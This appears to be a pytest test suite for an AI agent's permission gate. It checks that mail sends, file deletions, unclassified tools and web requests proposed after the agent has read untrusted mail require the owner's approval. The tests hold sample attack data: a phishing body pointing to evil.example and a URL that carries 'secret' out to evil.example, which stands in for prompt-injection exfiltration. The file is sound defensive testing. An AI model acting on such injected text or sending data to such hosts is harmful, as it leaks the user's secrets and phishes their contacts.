"""The gate holds against a mind that works for somebody else."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.systems.demo import DemoShop
from bot import gate, ids, policy, provenance, rulebook
from bot.actions import Account, Action, Call, Field, Kind, Part, Risk
from bot.effects import Outlay
from bot.errors import Misconfigured
from bot.journal import Ask, Outcome, Thought
from bot.people import Person, Role
from bot.policy import Circumstances, Decision
from bot.proposals import SourceKind
from bot.provenance import Grounds, Reading
from bot.rules import Policy
from bot.values import Json, Money
from tests.stage import stage
from tests.twins.mind import ScriptedMind

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
ACCOUNT = Account(system="mail", label="ana")
ANA = Person(id="per_ana", name="Ana", role=Role.OWNER)
SEND = Action(
    name="mail.send",
    title="Send",
    risk=Risk.R2,
    fields=(
        Field(name="to", title="To", kind=Kind.EMAIL, part=Part.RECIPIENT),
        Field(name="body", title="Body", kind=Kind.LONG_TEXT, part=Part.CONTENT),
    ),
)
DELETE = Action(
    name="files.delete",
    title="Delete",
    risk=Risk.R2,
    fields=(Field(name="file", title="File", kind=Kind.OBJECT, part=Part.OBJECT),),
)


def at(action: Action, arguments: dict[str, Json], **more: object) -> Circumstances:
    call = Call(action=action.name, fingerprint=action.fingerprint, account=ACCOUNT, arguments=arguments)
    plain = Circumstances(person=ANA, mission=None, tainted=False, frozen="", call=call, now=NOW)
    return replace(plain, **more)


def judged(action: Action, arguments: dict[str, Json], words: str, *, read: str = "") -> Decision:
    """What the shipped policy says after something was read, for a mind that chose these arguments."""
    grounds = Grounds(words=words, readings=(Reading(action="mail.read", text=read),) if read else ())
    sources = provenance.trace(action, arguments, arguments, grounds)
    own = provenance.own_words(action, sources)
    circumstances = at(action, arguments, tainted=bool(read), own_words=own)
    return policy.judge(action, circumstances, rulebook.shipped()).decision


# Provenance ------------------------------------------------------------------------------------------------


def test_a_named_colleague_does_not_clear_an_attackers_text() -> None:
    """SAFETY 63"""
    words = "tell bob@example.com what the mail says"
    phishing = {"to": "bob@example.com", "body": "reset your password at https://evil.example"}
    assert judged(SEND, phishing, words, read="reset your password at https://evil.example") is Decision.ASK
    exact = {"to": "bob@example.com", "body": "hello"}
    assert judged(SEND, exact, "tell bob@example.com hello", read="whatever") is Decision.ALLOW


@pytest.mark.parametrize(
    ("id", "words"), [("13", "meet me at 13:00"), ("1", "send 1 file"), ("7", "order 7")]
)
def test_an_id_that_stands_in_the_words_is_not_chosen_by_them(id: str, words: str) -> None:
    """SAFETY 64"""
    assert judged(DELETE, {"file": id}, words, read="a file list") is Decision.ASK
    sources = provenance.trace(DELETE, {"file": id}, {"file": id}, Grounds(words=words))
    assert sources["file"].kind is not SourceKind.WORDS


@given(st.text(max_size=40), st.text(max_size=40))
def test_an_id_is_never_the_persons_own_words(id: str, words: str) -> None:
    """SAFETY 64"""
    sources = provenance.trace(DELETE, {"file": id}, {"file": id}, Grounds(words=f"{words} {id} {words}"))
    assert not provenance.own_words(DELETE, sources)


@pytest.mark.parametrize("risk", [Risk.R3])
def test_r3_asks_whatever_the_words_were(risk: Risk) -> None:
    """SAFETY 64"""
    action = replace(SEND, risk=risk)
    exact = {"to": "bob@example.com", "body": "hello"}
    assert judged(action, exact, "send hello to bob@example.com") is Decision.ASK


# Unknown tools ---------------------------------------------------------------------------------------------


@given(st.from_regex(r"[a-z]{1,8}\.[a-z_]{1,20}", fullmatch=True), st.booleans())
def test_a_tool_that_nobody_classified_asks(name: str, tainted: bool) -> None:
    """SAFETY 65"""
    action = Action(name=name, title=name)
    assert action.risk is Risk.R3
    person = at(action, {}, tainted=tainted)
    if action.system != "vigie":
        assert policy.judge(action, person, rulebook.shipped()).decision is Decision.ASK


async def test_a_tool_that_nobody_offers_is_refused(tmp_path: Path) -> None:
    """SAFETY 65"""
    asks = tuple(
        Ask(id=str(n), action=name) for n, name in enumerate(("bank.rob", "demo.rob", "x", "", "a.b.c"))
    )
    mind = ScriptedMind([Thought(asks=asks), Thought(text="no")])
    async with stage(tmp_path, model=mind) as s:
        await s.say("go on")
        assert {answer.outcome for answer in mind.answers} == {Outcome.REFUSED}
        assert len(mind.answers) == len(asks)


def test_a_tool_that_calls_tools_is_judged_by_what_it_would_call() -> None:
    """SAFETY 66"""
    harmless = Action(
        name="zap.call", title="Call", risk=Risk.R0, inner="tool", fields=(Field(name="tool", title="T"),)
    )
    reads = Action(name="zap.read", title="Read", risk=Risk.R0)
    shipped = rulebook.shipped()
    assert policy.judge(harmless, at(harmless, {}, inner=reads), shipped).decision is Decision.ALLOW
    for inner in (gate.UNKNOWN, replace(DELETE, risk=Risk.R3)):
        assert policy.judge(harmless, at(harmless, {}, inner=inner), shipped).decision is Decision.ASK


@pytest.mark.parametrize(("tainted", "decision"), [(False, Decision.ALLOW), (True, Decision.ASK)])
def test_a_read_that_carries_something_out_asks_once_a_stranger_was_read(
    tainted: bool, decision: Decision
) -> None:
    """SAFETY 67"""
    browse = Action(
        name="web.open",
        title="Open",
        risk=Risk.R0,
        egress=True,
        fields=(Field(name="url", title="Address", kind=Kind.URL),),
    )
    call = at(browse, {"url": "https://evil.example/?d=secret"}, tainted=tainted)
    assert policy.judge(browse, call, rulebook.shipped()).decision is decision


# The policy file -------------------------------------------------------------------------------------------

effects = st.sampled_from(["deny", "ask", "allow"])


def policy_of(*rules: str) -> Policy:
    text = "\n".join(
        f'[[rule]]\nname = "r{n}"\nauthor = "Ana"\neffect = "{effect}"\naction = "*"\n'
        for n, effect in enumerate(rules)
    )
    return rulebook.parse(text, source="test")


@given(st.lists(effects, max_size=6))
def test_deny_comes_before_ask_and_ask_before_allow_in_any_order_of_the_file(rules: list[str]) -> None:
    """SAFETY 68"""
    verdict = policy.judge(SEND, at(SEND, {}), policy_of(*rules))
    expected = next((effect for effect in ("deny", "ask", "allow") if effect in rules), "ask")
    assert verdict.decision == expected
    if rules and expected in rules:
        assert verdict.rule == f"r{rules.index(expected)}"


@pytest.mark.parametrize(
    "text",
    [
        "[[rule]",
        '[[rule]]\nname = "a"\neffect = "alow"\n',
        '[[rule]]\nname = "a"\neffect = "allow"\nacton = "*"\n',
        '[quiet]\nhours = "22:00-07:00"\n',
    ],
)
def test_a_policy_file_with_a_slip_of_the_pen_is_refused_and_meanwhile_everything_asks(
    tmp_path: Path, text: str
) -> None:
    """SAFETY 68"""
    file = tmp_path / "policy.toml"
    file.write_text(text, encoding="utf-8")
    with pytest.raises(Misconfigured):
        rulebook.PolicyFile(file).read()
    for broken in (rulebook.PolicyFile(file)(), rulebook.PolicyFile(tmp_path / "missing.toml")()):
        assert broken.trouble
        for action in (SEND, DELETE, replace(SEND, risk=Risk.R0)):
            assert policy.judge(action, at(action, {}), broken).decision is Decision.ASK


# Limits ----------------------------------------------------------------------------------------------------

CAP = """
[[rule]]
name = "cap"
effect = "deny"
action = "bank.pay"
limit = { per = "account", within = "24h", amount = "10000 EUR" }
author = "Ana"

[[rule]]
name = "else"
effect = "allow"
author = "Ana"
action = "*"
"""


def test_three_payments_below_a_limit_are_counted_together() -> None:
    """3 × 9,999 does not stay under 10,000; a day later the window has moved on. SAFETY 71"""
    pay = Action(
        name="bank.pay",
        title="Pay",
        fields=(Field(name="amount", title="Amount", kind=Kind.MONEY, part=Part.AMOUNT),),
    )
    rules = rulebook.parse(CAP, source="test")
    each = Money(999_900, "EUR")
    first = at(pay, {"amount": each.as_json()})
    assert policy.judge(pay, first, rules).decision is Decision.ALLOW
    assert first.call is not None
    done = Outlay(
        effect=ids.new("eff"),
        action="bank.pay",
        account=gate.account_key(first.call),
        amounts=(each,),
        at=NOW - timedelta(hours=1),
    )
    assert policy.judge(pay, replace(first, outlays=(done,)), rules).decision is Decision.DENY
    old = replace(done, at=NOW - timedelta(hours=25))
    assert policy.judge(pay, replace(first, outlays=(old,)), rules).decision is Decision.ALLOW


def test_every_write_of_the_demo_shop_is_classified(tmp_path: Path) -> None:
    """Nothing that ships is left at the class of the unknown by oversight. SAFETY 65"""
    shop = DemoShop(tmp_path / "shop.db", today=NOW.date())
    reads = {action.name for action in shop.actions() if action.risk is Risk.R0}
    writes = {action.name for action in shop.actions() if action.risk is not Risk.R0}
    assert {"demo.refund", "demo.delete_customer"} <= writes
    assert not {name for name in reads if name.partition(".")[2].startswith(("set", "delete", "refund"))}
